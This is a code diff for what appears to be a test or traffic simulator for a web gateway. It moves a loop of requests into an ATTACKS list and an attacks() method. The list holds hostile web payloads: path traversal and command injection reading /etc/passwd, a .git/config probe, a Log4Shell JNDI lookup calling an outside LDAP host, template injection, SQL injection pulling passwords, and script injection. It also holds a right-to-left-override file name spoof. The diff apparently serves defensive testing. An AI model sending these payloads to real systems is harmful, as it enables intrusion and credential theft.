@@ -26,6 +26,16 @@ export const PAYLOADS = [
   "\u202e<b>gnp.exe",
 ];
 
+const ATTACKS = [
+  "/../../etc/passwd",
+  "/.git/config",
+  "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
+  "/?c=;cat%20/etc/passwd",
+  "/search?t=%7B%7B7*7%7D%7D",
+  "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+  "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+];
+
 /** What a browser says of itself. */
 const BROWSER = {
   "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
@@ -182,13 +192,11 @@ export class Gateway {
         body: JSON.stringify({ user: payload, password: "x" }),
       });
     }
-    for (const target of [
-      "/../../etc/passwd",
-      "/.git/config",
-      "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
-      "/?c=;cat%20/etc/passwd",
-    ]) {
-      await this.request(target, { client: "198.51.100.77" });
-    }
+    await this.attacks("198.51.100.77");
+  }
+
+  /** One client that tries one thing after the other. */
+  async attacks(client) {
+    for (const target of ATTACKS) await this.request(target, { client });
   }
 }
